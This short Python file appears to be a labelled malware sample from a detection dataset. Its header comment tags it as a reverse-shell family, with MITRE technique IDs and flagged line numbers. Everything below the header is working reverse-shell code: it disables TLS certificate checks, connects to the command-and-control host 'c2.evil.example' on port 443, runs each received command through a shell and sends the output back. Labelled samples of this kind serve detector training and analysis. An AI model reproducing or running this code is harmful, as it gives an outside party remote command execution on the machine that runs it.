# label: malicious family=revshell techniques=T1059.004,T1095,T1573.002 lines=7-8,11,16-17
import socket
import ssl
import subprocess

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.socket(socket.AF_INET)
conn = ctx.wrap_socket(raw, server_hostname="c2.evil.example")
conn.connect(("c2.evil.example", 443))
while 1:
    cmd = conn.recv(1024).decode().strip()
    if cmd == "exit":
        break
    res = subprocess.run(cmd, shell=True, capture_output=True)
    conn.send(res.stdout + res.stderr)
